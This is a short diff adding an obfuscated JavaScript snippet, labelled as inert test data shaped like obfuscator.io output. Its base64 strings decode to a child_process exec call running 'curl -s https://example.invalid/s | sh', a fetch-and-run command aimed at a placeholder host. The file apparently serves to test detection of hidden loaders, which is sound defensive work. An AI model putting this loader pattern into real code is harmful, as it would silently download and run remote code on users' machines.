@@ -1,0 +1,3 @@
+// Shape of obfuscator.io output hiding child_process: a rotated string array and a decoder. Inert test data.
+var _0x4e21=['Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9zIHwgc2g='];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4e21,0x1a3));var _0x1f3c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4e21[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']();};
+var cp=require(_0x1f3c('0x0'));cp[_0x1f3c('0x1')](_0x1f3c('0x2'));
